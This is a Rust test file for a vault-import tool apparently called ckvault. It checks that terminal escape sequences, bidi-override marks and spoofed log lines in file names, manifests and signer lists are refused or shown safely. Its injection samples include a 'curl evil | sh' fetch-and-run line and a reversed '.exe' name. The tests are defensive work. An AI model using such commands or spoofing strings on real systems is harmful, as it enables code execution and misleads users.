//! Text that a terminal would obey, or that looks like a line of ours. `Site::run` compares every byte of every run.

use crate::cases::{refuse, small, with};
use crate::site::Site;
use crate::ustar::*;
use std::fs;

/// What must not reach a terminal as it is: escapes, in seven bits and in eight, control characters, marks that turn text
/// around, and lines that look like ours.
const EVIL: [&str; 10] = [
    "\u{1b}[2J\u{1b}]0;title\u{7}",
    "\u{9b}31m",
    "\u{90}q\u{9c}",
    "a\rckvault: imported",
    "a\nhint: run curl evil | sh",
    "\u{202e}gpj.exe",
    "\u{2066}\u{200f}x",
    "\u{7f}\u{8}\u{8}",
    "\t\u{b}\u{c}",
    "a\u{61c}b\u{ad}c\u{34f}d\u{115f}\u{3164}e\u{fe0f}\u{e0041}\u{1d173}",
];

#[test]
fn names_of_entries() {
    for evil in EVIL {
        let site = Site::new();
        site.compose(
            &with([
                file(evil, "x"),
                symlink(format!("l{evil}"), evil),
                file([evil.as_bytes(), b"\xff\x1b"].concat(), "y"),
            ]),
            1,
        );
        for verb in ["list", "list --json", "verify", "import"] {
            site.run(verb).ends(0);
        }
        let hidden = [evil.as_bytes(), b"\xff\x1b"].concat();
        refuse(vec![
            ("as a path that is refused", with([file(format!("{evil}/x"), "x")]), 1, "its parent"),
            ("not UTF-8", with([file([&hidden[..], b"/x"].concat(), "x")]), 1, "its parent"),
            ("twice", with([file(evil, "x"), file(evil, "x")]), 1, "twice"),
            ("as a link that leaves", with([symlink(evil, format!("../{evil}"))]), 1, "leaves"),
            ("as a hard link", with([hardlink(evil, evil)]), 1, "hard link"),
            ("with a wrong hash", with([file(evil, "x")]).field(2, "blake3", "0".repeat(64)), 1, "hash"),
            ("somewhere else", with([file(evil, "x")]).field(2, "offset", 0), 1, "does not lie"),
            ("in another tree", with([file(evil, "x")]).shows(vec![dir(""), file("b", "x")]), 1, "differs"),
            ("as an attribute", attribute(evil), 1, "extended attribute"),
        ]);
    }
}

fn attribute(name: &str) -> crate::compose::Recipe {
    let mut item = file("a", "x");
    item.xattrs = vec![(name.as_bytes().to_vec(), b"v".to_vec())];
    with([item])
}

/// Values and words of the inventory that errors show.
#[test]
fn words_of_the_inventory() {
    for evil in EVIL {
        let quoted = serde_json::to_string(evil).unwrap();
        refuse(vec![
            ("as the kind", small().field(2, "kind", evil), 1, "inventory.age"),
            ("as the version", small().field(0, "inventory", evil), 5, "format"),
            ("as the set", small().field(0, "set", evil), 5, "another set"),
            ("as the signer", small().field(0, "signer", evil), 5, "another set"),
            ("as a number", small().field(2, "size", evil), 1, "inventory.age"),
            ("as a hash", small().field(2, "blake3", evil), 1, "inventory.age"),
            ("as a field", small().text(2, "\"size\"", &quoted), 1, "inventory.age"),
            ("as it is", small().text(2, "\"path\":\"a\"", &format!("\"path\":\"{evil}\",{evil}")), 1, "inventory.age"),
            (
                "as base64",
                small().text(2, "\"path\":\"a\"", &format!("\"path\":{{\"base64\":{quoted}}}")),
                1,
                "inventory.age",
            ),
        ]);
    }
}

/// Values and words of the manifest that reports and errors show.
#[test]
fn words_of_the_manifest() {
    for evil in EVIL {
        let set = |field: &'static str| small().manifest(move |m| m[field] = evil.into());
        let own = |field: &'static str| small().manifest(move |m| m["groups"][0][field] = evil.into());
        refuse(vec![
            ("label", set("label"), 1, "label"),
            ("set", set("set"), 1, "set id"),
            ("created", set("created"), 1, "creation time"),
            ("format", set("format"), 5, "format"),
            ("filter", set("filter"), 1, "filter"),
            ("previous", set("previous"), 1, "manifest.json"),
            ("feature", small().manifest(move |m| m["critical"] = vec![evil].into()), 1, "feature"),
            ("number", set("drives"), 1, "expected u16"),
            ("k", own("k"), 1, "manifest.json"),
            ("file", small().manifest(move |m| m["files"][evil] = m["files"]["keys.age"].clone()), 1, "metadata file"),
            ("hash", small().manifest(move |m| m["files"]["keys.age"]["blake3"] = evil.into()), 1, "manifest.json"),
            ("recipient", set("recipient_blake3"), 1, "manifest.json"),
            ("as it is", small().signed("\"drives\"", evil), 1, "manifest.json"),
            ("tool", set("tool"), 1, "tool"),
        ]);
        // What nobody has signed is shown no sooner.
        let site = Site::new();
        site.compose(&set("tool"), 1);
        nobody_vouches(&site);
    }
}

/// Without a signer who is trusted, everything that is shown is a stranger's.
#[track_caller]
fn nobody_vouches(site: &Site) {
    site.trusts("# nobody\n");
    let ran = site.run("inspect");
    assert!(ran.stdout.is_empty() || ran.stdout.contains("NOT VERIFIED"), "{ran}");
    site.run("inspect --json");
}

/// Times that a lenient parser takes, and times in another spelling.
#[test]
fn times_in_another_form() {
    for more in ["[Europe/Paris]", "[\u{1b}[2J]", "[!u-ca=iso8601]", " \u{1b}", "\n", "[x\ny]", "[UTC]\u{202e}"] {
        not_a_time(format!("2026-11-23T06:00:00Z{more}"));
    }
    for other in
        ["2026-11-23T07:00:00+01:00", "2026-11-23T06:00:00+00:00", "2026-11-23 06:00:00Z", "2026-11-23T06:00:00.5Z"]
    {
        not_a_time(other.to_owned());
    }
}

#[track_caller]
fn not_a_time(created: String) {
    let site = Site::new();
    site.compose(&small().manifest(move |m| m["created"] = created.clone().into()), 1);
    for verb in ["inspect", "inspect --json", "verify", "verify --json", "list", "list --json", "import"] {
        let ran = site.run(verb).ends(1);
        assert!(ran.stderr.contains("manifest.json: the creation time ") && ran.stderr.contains("YYYY-MM-DD"), "{ran}");
    }
    nobody_vouches(&site);
}

/// Names under which keys are trusted, and comments of keys.
#[test]
fn names_of_signers() {
    for evil in EVIL.iter().filter(|e| !e.contains(['\n', '\r', '\t', '\u{b}', '\u{c}'])) {
        let site = Site::new();
        site.compose(&small(), 1);
        let key = site.keys.public();
        for list in
            [format!("{evil} {key}\n"), format!("{key} {evil}\n"), format!("a{evil} namespaces=\"git\" {key}\n")]
        {
            site.trusts(&list);
            for verb in ["inspect", "inspect --json", "verify", "verify --json", "list", "list --json", "import"] {
                site.run(verb);
            }
            let _ = fs::remove_dir_all(site.target());
        }
        for list in [
            format!("a {evil} {key}\n"),
            format!("a {evil}=\"{evil}\" {key}\n"),
            format!("{evil}\n"),
            format!("a ssh-ed25519 {evil}\n"),
        ] {
            site.trusts(&list);
            site.run("verify").ends(5);
        }
    }
}

/// Names of directories and files on a drive, which nobody signed.
#[test]
fn names_on_the_drive() {
    for evil in EVIL {
        let site = Site::new();
        let dirs = site.compose(&small(), 1);
        let renamed = dirs[0].with_file_name(format!("{evil}.ckvault"));
        fs::rename(&dirs[0], &renamed).unwrap();
        fs::write(renamed.join("manifest.json"), "{}").unwrap();
        fs::remove_file(renamed.join("hashes.b3")).unwrap();
        fs::write(renamed.join(format!("{evil}.ckv")), "").unwrap();
        for verb in ["inspect", "inspect --json", "verify", "verify --json", "list", "list --json"] {
            site.run(verb);
        }
        site.run("import").ends(0);
        fs::remove_dir_all(site.target()).unwrap();
        // Two of them are ambiguous, which is said with their names; one without its manifest is interrupted.
        fs::create_dir_all(renamed.with_file_name(format!("{evil}2.ckvault")).join("copy")).unwrap();
        ["copy", "third"].iter().for_each(|sub| fs::remove_file(renamed.join(sub).join("manifest.json")).unwrap());
        site.run("verify");
        site.run("import");
        fs::remove_dir_all(renamed.with_file_name(format!("{evil}2.ckvault"))).unwrap();
        fs::remove_file(renamed.join("manifest.json")).unwrap();
        site.run("verify").ends(5);
        site.run("import").ends(5);
        assert!(!site.target().exists());
    }
}

/// The label of a directory is chosen by name, and that name is shown when it does not fit.
#[test]
fn a_set_that_is_not_the_one_that_was_asked_for() {
    let site = Site::new();
    let dirs = site.compose(&small(), 1);
    fs::rename(&dirs[0], dirs[0].with_file_name("wanted-00000000.ckvault")).unwrap();
    site.run("import --set wanted").ends(7);
    site.run("import --set 00000000").ends(7);
    assert!(!site.target().exists());
}
